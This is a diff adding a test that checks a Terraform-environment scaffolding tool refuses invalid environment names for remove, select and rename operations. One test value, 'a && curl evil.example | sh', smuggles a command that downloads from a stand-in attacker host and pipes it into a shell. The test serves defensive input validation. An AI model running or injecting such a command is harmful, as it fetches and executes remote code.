@@ -178,6 +178,25 @@ describe('environments', () => {
     });
   }
 
+  it('end up in no command when they can’t be workspaces', async () => {
+    const before = samplePlatform('minimal');
+    for (const name of ['--help', 'a && curl evil.example | sh', '..', 'a`b']) {
+      const texts = Object.fromEntries(
+        Object.entries(before).map(([path, text]) => [path, text.replace(/\bops = \{/, `${JSON.stringify(name)} = {`)]),
+      );
+      assert.notDeepEqual(texts, before);
+      for (const [kind, answers] of [
+        ['removeEnvironment', { env: name, confirm: name }],
+        ['environment', { env: 'apps-dev' }],
+        ['renameEnvironment', { env: name, to: 'ops' }],
+      ] as const)
+        assert.match(
+          (await refused(texts, kind, answers)).join('\n'),
+          /^uri: The environment ".*" can't be a Terraform workspace/,
+        );
+    }
+  });
+
   it('are confirmed by name before they go', async () => {
     const { texts } = await scaffolded(samplePlatform('minimal'), 'environment', { env: 'edge' });
     for (const confirm of [undefined, 'ops'])
